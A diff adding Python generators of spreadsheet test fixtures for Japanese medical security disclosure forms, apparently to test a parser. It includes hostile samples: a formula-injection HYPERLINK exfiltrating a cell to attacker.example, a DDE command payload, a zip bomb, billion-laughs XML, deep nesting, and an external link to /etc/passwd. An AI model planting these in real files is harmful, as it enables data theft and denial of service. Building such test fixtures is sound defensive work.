@@ -160,3 +160,336 @@ def fill_page(page, rows: list[list[str]]) -> None:
                 cell.alignment = Alignment(wrap_text=True, vertical="top")
     page.column_dimensions["B"].width = 70
     page.column_dimensions["F"].width = 50
+
+
+def clean(filled: Sheet, folder: Path) -> Path:
+    """A head, columns of choices, a list of remarks at the end."""
+    return write_xlsx(grid(filled), folder / "clean.xlsx")
+
+
+def ticked(filled: Sheet, folder: Path, mark: str, name: str) -> Path:
+    """The same with another mark; a number where the mark is one."""
+    rows = grid(filled, mark)
+    if mark.isdigit():
+        rows = [[int(cell) if cell == mark and column in (2, 3, 4) else cell for column, cell in enumerate(row)] for row in rows]
+    return write_xlsx(rows, folder / f"ticks-{name}.xlsx")
+
+
+def in_place(filled: Sheet, folder: Path) -> Path:
+    """Remarks beside their rows."""
+    return write_xlsx(grid(filled, remarks="in place"), folder / "remarks-in-place.xlsx")
+
+
+def second_worksheet(filled: Sheet, folder: Path) -> Path:
+    """Remarks on a worksheet of their own."""
+    book = openpyxl.Workbook()
+    fill_page(book.active, grid(filled, remarks="elsewhere"))
+    book.active.title = "開示書"
+    numbers = numbered(filled)
+    rows = [["備考番号", "内容"]]
+    rows += [[numbers[question.key], question.remark] for question in filled.questions if question.remark]
+    fill_page(book.create_sheet("備考"), rows)
+    path = folder / "remarks-on-a-second-worksheet.xlsx"
+    book.save(path)
+    return path
+
+
+def merged(filled: Sheet, folder: Path) -> Path:
+    """Heads over two rows, a column of categories merged over its rows, a remark merged over two rows."""
+    book = openpyxl.Workbook()
+    page = book.active
+    page.append(["サービス事業者による医療情報セキュリティ開示書"])
+    page.merge_cells("A1:G1")
+    for label, value in (("作成日", filled.date), ("サービス事業者", filled.vendor), ("サービス名称", filled.service), ("バージョン", filled.version)):
+        page.append([label, None, value])
+        page.merge_cells(start_row=page.max_row, end_row=page.max_row, start_column=1, end_column=2)
+    page.append(["区分", "No.", "質問", "回答", None, None, "備考"])
+    page.append([None, None, None, "はい\n(該当)", "いいえ\n(非該当)", "対象外", None])
+    top = page.max_row - 1
+    for column in "ABCG":
+        page.merge_cells(f"{column}{top}:{column}{top + 1}")
+    page.merge_cells(f"D{top}:F{top}")
+    first, heading = None, None
+    names = {"該当": "はい", "非該当": "いいえ"}
+    for question in filled.questions:
+        row = page.max_row + 1
+        if question.heading != heading:
+            if first and row - 1 > first:
+                page.merge_cells(start_row=first, end_row=row - 1, start_column=1, end_column=1)
+            heading, first = question.heading, row
+            page.cell(row, 1, heading)
+        page.cell(row, 2, question.number)
+        page.cell(row, 3, question.text)
+        answer = names.get(question.answer, question.answer)
+        if answer:
+            page.cell(row, 4 + ("はい", "いいえ", "対象外").index(answer), "○")
+        page.cell(row, 7, question.remark or "-")
+    page.merge_cells(start_row=first, end_row=page.max_row, start_column=1, end_column=1)
+    path = folder / "merged.xlsx"
+    book.save(path)
+    return path
+
+
+def boxes(filled: Sheet, folder: Path) -> Path:
+    """The layout of the form itself: the choices in the row, a box before each, 備考 and a number behind."""
+    rows = [["サービス事業者による医療情報セキュリティ開示書"], ["作成日", filled.date], ["サービス事業者", filled.vendor],
+            ["サービス名称", filled.service], ["バージョン", filled.version], []]
+    numbers, heading = numbered(filled), None
+    for question in filled.questions:
+        if question.heading != heading:
+            heading = question.heading
+            rows += [[], [heading]]
+        choices = [f"{'■' if choice == question.answer else '□'}{choice}" for choice in question.choices]
+        lead = question.number if question.number == "・" else f"{question.number} "
+        rows.append([lead + question.text, *choices, *([""] * (3 - len(choices))), "備考", str(numbers.get(question.key, "-"))])
+    rows += [["備考記載欄"]]
+    rows += [[str(numbers[question.key]), question.remark] for question in filled.questions if question.remark]
+    return write_xlsx(rows, folder / "boxes.xlsx")
+
+
+def one_cell(filled: Sheet, folder: Path) -> Path:
+    """All choices in one cell; the one that holds in brackets."""
+    rows = grid(filled, remarks="in place")
+    out = rows[:6] + [["No.", "質問", "回答", "備考"]]
+    questions = iter(filled.questions)
+    for row in rows[7:]:
+        if len(row) < 6:
+            out.append(row)
+            continue
+        question = next(questions)
+        words = [f"【{choice}】" if choice == question.answer else choice for choice in question.choices]
+        out.append([row[0], row[1], "・".join(words), row[5]])
+    return write_xlsx(out, folder / "one-cell.xlsx")
+
+
+def written(filled: Sheet, folder: Path) -> Path:
+    """The answer written into a column of its own."""
+    rows = grid(filled, remarks="in place")
+    out = rows[:6] + [["No.", "質問", "回答", "備考"]]
+    questions = iter(filled.questions)
+    for row in rows[7:]:
+        out.append(row if len(row) < 6 else [row[0], row[1], next(questions).answer or "", row[5]])
+    return write_xlsx(out, folder / "written.xlsx")
+
+
+def filled_cells(filled: Sheet, folder: Path) -> Path:
+    """The choices in the row, the one that holds painted; rows striped, heads of another colour."""
+    book = openpyxl.Workbook()
+    page = book.active
+    tick, stripe, head = (PatternFill("solid", start_color=color) for color in ("FFFF99", "EEEEEE", "99CCFF"))
+    fill_page(page, [["医療情報セキュリティ開示書"], ["作成日", filled.date], ["サービス事業者", filled.vendor], ["サービス名称", filled.service], ["バージョン", filled.version]])
+    heading = None
+    for index, question in enumerate(filled.questions):
+        if question.heading != heading:
+            heading = question.heading
+            page.append([heading])
+            page.cell(page.max_row, 1).fill = head
+        page.append([question.number, question.text, *question.choices])
+        page.cell(page.max_row, 7, question.remark or "-")
+        for column in range(1, 8):
+            if index % 2:
+                page.cell(page.max_row, column).fill = stripe
+        if question.answer:
+            page.cell(page.max_row, 3 + question.choices.index(question.answer)).fill = tick
+    path = folder / "filled.xlsx"
+    book.save(path)
+    return path
+
+
+def ellipses(filled: Sheet, folder: Path) -> Path:
+    """The choices in the row, an ellipse drawn over the one that holds: a flat OpenDocument file, for LibreOffice to convert."""
+    def cell(text: str, shape: str = "") -> str:
+        return f'<table:table-cell office:value-type="string">{shape}<text:p>{escape(text)}</text:p></table:table-cell>'
+
+    rows = []
+    for label, value in (("医療情報セキュリティ開示書", ""), ("作成日", filled.date), ("サービス事業者", filled.vendor), ("サービス名称", filled.service), ("バージョン", filled.version)):
+        rows.append(cell(label) + cell(value))
+    for question in filled.questions:
+        row = len(rows) + 1
+        cells = [cell(question.number), cell(question.text)]
+        for column, choice in zip("CDE", question.choices):
+            shape = ""
+            if choice == question.answer:
+                place = f'table:end-cell-address="開示書.{column}{row}" table:end-x="19mm" table:end-y="4.4mm" svg:x="1mm" svg:y="0.2mm" svg:width="18mm" svg:height="4.2mm"'
+                shape = f'<draw:custom-shape {place}><draw:enhanced-geometry draw:type="ellipse" svg:viewBox="0 0 21600 21600" draw:enhanced-path="U 10800 10800 10800 10800 0 360 Z N"/></draw:custom-shape>'
+            cells.append(cell(choice, shape))
+        cells += ["<table:table-cell/>"] * (5 - len(cells)) + [cell(question.remark or "-")]
+        rows.append("".join(cells))
+    names = ("office", "style", "text", "table", "fo")
+    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{"xsl-fo-compatible" if name == "fo" else name}:1.0"' for name in names)
+    spaces += ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
+    widths = "".join(f'<style:style style:name="w{width}" style:family="table-column"><style:table-column-properties style:column-width="{width}mm"/></style:style>' for width in (15, 20, 100))
+    columns = "".join(f'<table:table-column table:style-name="w{width}"/>' for width in (15, 100, 20, 20, 20, 100))
+    body = "".join(f"<table:table-row>{row}</table:table-row>" for row in rows)
+    path = folder / "ellipses.fods"
+    path.write_text(
+        f'<?xml version="1.0" encoding="UTF-8"?><office:document {spaces} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">'
+        f"<office:automatic-styles>{widths}</office:automatic-styles>"
+        f'<office:body><office:spreadsheet><table:table table:name="開示書">{columns}{body}</table:table></office:spreadsheet></office:body></office:document>',
+        encoding="utf-8",
+    )
+    return path
+
+
+def escape(text: str) -> str:
+    """Text for XML."""
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def as_csv(filled: Sheet, folder: Path, encoding: str) -> Path:
+    """The common layout as CSV, as spreadsheet programs save it."""
+    text = io.StringIO()
+    csv.writer(text, lineterminator="\r\n").writerows(grid(filled))
+    path = folder / f"sheet-{encoding}.csv"
+    path.write_bytes(text.getvalue().encode(encoding))
+    return path
+
+
+def pdf_text(filled: Sheet, folder: Path, layout: str) -> Path:
+    """The text layer of the PDF that an office program prints, with the places of its words kept."""
+    source = boxes(filled, folder) if layout == "boxes" else clean(filled, folder)
+    book = openpyxl.load_workbook(source)
+    page = book.active
+    page.page_setup.orientation = "landscape"
+    page.page_setup.fitToHeight = 0
+    page.sheet_properties.pageSetUpPr = openpyxl.worksheet.properties.PageSetupProperties(fitToPage=True)
+    if layout == "boxes":
+        page.column_dimensions["A"].width, page.column_dimensions["B"].width, page.column_dimensions["F"].width = 90, 10, 8
+    printed = folder / f"print-{layout}.xlsx"
+    book.save(printed)
+    made = convert(printed, "pdf", folder)
+    out = folder / f"text-{layout}.txt"
+    subprocess.run(["pdftotext", "-layout", made, out], check=True)
+    return out
+
+
+def revised(filled: Sheet, folder: Path) -> Path:
+    """Another revision of the form: one question gone, one new, one replaced, one reworded, one renumbered."""
+    rows = grid(filled)
+    place = {row[0]: index for index, row in enumerate(rows) if len(row) == 6}
+    rows[place["10"]][1] = "機器の台帳を年に一度以上更新し、医療機関等の求めに応じて提示できるか？"  # replaced
+    rows[place["14"]][1] = rows[place["14"]][1].replace("覗き見防止の機能", "のぞき見を防止する機能")  # reworded
+    rows[place["9"]][0] = "9.9"  # renumbered
+    new = ["15.1", "生成AIサービスに医療情報を入力させない対策を講じているか？", "○", "", "", "-"]
+    rows.insert(place["15"] + 1, new)  # new
+    del rows[place["13"]]  # gone
+    return write_xlsx(rows, folder / "revised.xlsx")
+
+
+def unclear(filled: Sheet, folder: Path) -> Path:
+    """Two ticks, a tick right of the choices, another word at a choice, a remark that contradicts its tick."""
+    rows = grid(filled, remarks="in place")
+    place = {row[0]: index for index, row in enumerate(rows) if len(row) == 6}
+    rows[place["3"]][2:5] = ["○", "○", ""]
+    rows[place["4"]][2:5] = ["△", "", ""]
+    rows[place["5"]][2:5] = ["", "", ""]
+    rows[place["6"]][2:6] = ["○", "", "", "定めていないため、「いいえ」"]
+    return write_xlsx(rows, folder / "unclear.xlsx")
+
+
+def injected(filled: Sheet, folder: Path) -> Path:
+    """Formulas in remarks: computed by LibreOffice, so that they have a last value; and words that look like formulas."""
+    path = folder / "injected-source.xlsx"
+    book = openpyxl.load_workbook(write_xlsx(grid(filled, remarks="in place"), path))
+    page = book.active
+    rows = {page.cell(row, 1).value: row for row in range(1, page.max_row + 1)}
+    page.cell(rows["3"], 6).value = '=HYPERLINK("http://attacker.example/?"&B3,"詳しくはこちら")'
+    page.cell(rows["4"], 6).value = "=1+1"
+    for number, words in (("5", "=cmd|'/C calc'!A0"), ("6", "+SUM(1,1)"), ("7", "@SUM(1,1)")):
+        cell = page.cell(rows[number], 6)
+        cell.value = words
+        cell.data_type = "s"
+    book.save(path)
+    made = convert(path, "xlsx:Calc MS Excel 2007 XML", folder / "office")
+    return Path(shutil.move(made, folder / "injected.xlsx"))
+
+
+# Hostile documents of any kind
+
+
+def rezipped(source: Path, target: Path, changed: dict[str, bytes | None]) -> Path:
+    """A package with parts added, replaced or (None) taken out."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            if name not in changed:
+                new.writestr(name, old.read(name))
+        for name, part in changed.items():
+            if part is not None:
+                new.writestr(name, part)
+    return target
+
+
+def bomb(source: Path, target: Path, gigabytes: int, lies: bool = False) -> Path:
+    """A workbook whose worksheet unpacks to gigabytes; one that lies says in its directory that it is small."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
+        for name in old.namelist():
+            if name != "xl/worksheets/sheet1.xml":
+                new.writestr(name, old.read(name))
+        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
+            part.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+            for _ in range(gigabytes * 64):
+                part.write(b"<row/>" * (16 * 1024 * 1024 // 6))
+            part.write(b"</sheetData></worksheet>")
+    if lies:
+        raw = bytearray(target.read_bytes())
+        at = raw.rfind(b"PK\x01\x02", 0, raw.rfind(b"xl/worksheets/sheet1.xml"))
+        raw[at + 24:at + 28] = (1000).to_bytes(4, "little")
+        target.write_bytes(raw)
+    return target
+
+
+def many_rows(source: Path, target: Path) -> Path:
+    """A worksheet with a million rows, none of which holds anything."""
+    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+    rows = b"".join(b'<row r="%d"><c r="A%d"/></row>' % (row, row) for row in range(1, 1_000_001))
+    return rezipped(source, target, {"xl/worksheets/sheet1.xml": head + rows + b"</sheetData></worksheet>"})
+
+
+def far_cell(filled: Sheet, folder: Path) -> Path:
+    """A sheet with one more cell, in the farthest corner."""
+    book = openpyxl.load_workbook(clean(filled, folder))
+    book.active["XFD1048576"] = "隅"
+    path = folder / "far-cell.xlsx"
+    book.save(path)
+    return path
+
+
+def encrypted(source: Path, target: Path) -> Path:
+    """A workbook with a password."""
+    import msoffcrypto.format.ooxml
+
+    with source.open("rb") as plain, target.open("wb") as secret:
+        msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("秘密", secret)
+    return target
+
+
+def laughs(source: Path, target: Path) -> Path:
+    """A worksheet with entities that would expand to gigabytes."""
+    entities = '<!ENTITY a0 "はい">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+    part = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>'
+    return rezipped(source, target, {"xl/worksheets/sheet1.xml": part.encode()})
+
+
+def deep(source: Path, target: Path) -> Path:
+    """An OpenDocument file with a hundred thousand elements in each other."""
+    with zipfile.ZipFile(source) as old:
+        content = old.read("content.xml").decode()
+    nested = "<text:span>" * 100_000 + "</text:span>" * 100_000
+    changed = content.replace("<text:p>", f"<text:p>{nested}", 1)
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
+        for name in old.namelist():
+            if name != "mimetype":
+                new.writestr(name, changed if name == "content.xml" else old.read(name))
+    return target
+
+
+def linked(filled: Sheet, folder: Path) -> Path:
+    """A workbook that refers to another file."""
+    link = ('<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
+            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>')
+    relation = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
+    return rezipped(clean(filled, folder), folder / "linked.xlsx", {
+        "xl/externalLinks/externalLink1.xml": link.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": relation.encode(),
+    })
